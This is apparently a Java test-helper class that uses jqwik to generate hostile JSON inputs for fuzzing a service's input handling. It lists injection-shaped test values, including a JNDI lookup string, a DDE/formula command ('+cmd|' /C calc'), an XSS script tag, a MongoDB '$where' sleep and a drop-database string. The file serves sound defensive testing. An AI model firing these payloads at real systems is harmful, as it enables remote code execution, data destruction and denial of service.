package cn.shuangcheng.system.hostile;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * What a hostile or careless caller puts where a value belongs, as raw JSON text (so that numbers no Java type holds,
 * such as {@code 1e999999999}, reach the service exactly as sent). Generated with jqwik's arbitraries: a fixed set of
 * known killers (the incidents of issue 11 among them) and generated families around them.
 */
public final class HostileValues {

    private HostileValues() {
    }

    /** Any hostile JSON value. */
    public static Arbitrary<String> any() {
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(3, numbers()),
                net.jqwik.api.Tuple.of(3, strings()),
                net.jqwik.api.Tuple.of(2, structures()),
                net.jqwik.api.Tuple.of(1, wrongTypes()));
    }

    /**
     * Hostile values that stay within the JSON parser's nesting and number-length limits, so that a batch carrying them is read and each
     * row is judged on its own (a body nested beyond the limit is refused whole, as malformed).
     */
    public static Arbitrary<String> shallow() {
        Arbitrary<String> operators = Arbitraries.of("{\"$where\":\"sleep(10000)\"}", "{\"$date\":\"nope\"}",
                "{\"a.b\":1}", "{\"\":1}", "[\"510100\",\"510100\"]");
        // numbers longer than the intake parser's 40 digits make the whole body malformed, like deep nesting
        return Arbitraries.oneOf(numbers().filter(n -> n.length() <= 40), strings(), wrongTypes(), operators);
    }

    /** Numbers beyond every bound: huge and tiny exponents, more digits than a long, fractions of a yuan. */
    public static Arbitrary<String> numbers() {
        Arbitrary<String> known = Arbitraries.of("1e999999999", "-1e999999999", "1e-999999999", "1E+308", "1e309",
                "9223372036854775807", "9223372036854775808", "-9223372036854775809", "100000000000001", "-1", "-0",
                "0.5", "1.5", "0.0000001", "123456789012345678901234567890", "4.9e-324");
        Arbitrary<String> longDigits = Arbitraries.integers().between(19, 60).map("9"::repeat);
        Arbitrary<String> exponents = Arbitraries.integers().between(20, 2_000_000_000)
                .map(e -> "1e" + e);
        Arbitrary<String> negativeExponents = Arbitraries.integers().between(7, 2_000_000_000)
                .map(e -> "1e-" + e);
        Arbitrary<String> fineDecimals = Arbitraries.bigDecimals().ofScale(9).between(
                java.math.BigDecimal.ZERO, java.math.BigDecimal.TEN).map(java.math.BigDecimal::toPlainString);
        return Arbitraries.oneOf(known, longDigits, exponents, negativeExponents, fineDecimals);
    }

    /** Long strings, odd Unicode, formula cells, injection-shaped text. */
    public static Arbitrary<String> strings() {
        Arbitrary<String> known = Arbitraries.of("", " ", "\u202E滨江\u202C", "\\u0000", "\\ud800", "\\udfff\\ud800",
                "🏗️‍🚄", "e\u0301\u0301\u0301\u0301", "\u200B\u200D\uFEFF", "=HYPERLINK(\"http://x\",\"a\")",
                "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\\r\\n=1+1", "$where", "a.b", "${jndi:ldap://x/a}",
                "<script>alert(1)</script>", "'; db.dropDatabase(); '", "\\t=1", "NaN", "Infinity", "null");
        Arbitrary<String> longText = Arbitraries.integers().between(201, 20_000).map("长"::repeat);
        Arbitrary<String> controls = Arbitraries.strings().withCharRange('\u0001', '\u001F').ofMinLength(1)
                .ofMaxLength(50).map(HostileValues::escapeControls);
        Arbitrary<String> unicode = Arbitraries.strings().all().ofMinLength(1).ofMaxLength(300);
        return Arbitraries.oneOf(known, longText, controls, unicode).map(s -> s.startsWith("\\") || s.contains("\\u")
                ? "\"" + s + "\"" : quote(s));
    }

    /** Deep nesting, MongoDB operators and dotted keys, oversized lists. */
    public static Arbitrary<String> structures() {
        Arbitrary<String> deepArrays = Arbitraries.integers().between(33, 20_000)
                .map(depth -> "[".repeat(depth) + "]".repeat(depth));
        Arbitrary<String> deepObjects = Arbitraries.integers().between(33, 2_000)
                .map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth));
        Arbitrary<String> operators = Arbitraries.of("{\"$where\":\"sleep(10000)\"}", "{\"$date\":\"nope\"}",
                "{\"$numberLong\":\"9223372036854775808\"}", "{\"a.b\":1}", "{\"$gt\":\"\"}", "{\"\":1}",
                "[{\"$set\":{\"x\":1}}]");
        Arbitrary<String> longLists = Arbitraries.integers().between(101, 3_000)
                .map(n -> IntStream.range(0, n).mapToObj(i -> "\"510100\"").collect(Collectors.joining(",", "[", "]")));
        return Arbitraries.oneOf(deepArrays, deepObjects, operators, longLists);
    }

    public static Arbitrary<String> wrongTypes() {
        return Arbitraries.of("true", "null", "[]", "{}", "[1,2]", "{\"x\":1}", "\"2023-13-45\"", "\"2023-02-30\"",
                "\"99999-01\"", "\"-2023-01\"", "0", "1");
    }

    /** A JSON string literal. */
    public static String quote(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    private static String escapeControls(String text) {
        return text.chars().mapToObj(c -> String.format("\\u%04x", c)).collect(Collectors.joining());
    }

    /** {@code n} samples (jqwik's generator, outside a property: the suite counts across inputs itself). */
    public static List<String> sample(Arbitrary<String> arbitrary, int n) {
        return arbitrary.sampleStream().limit(n).toList();
    }
}
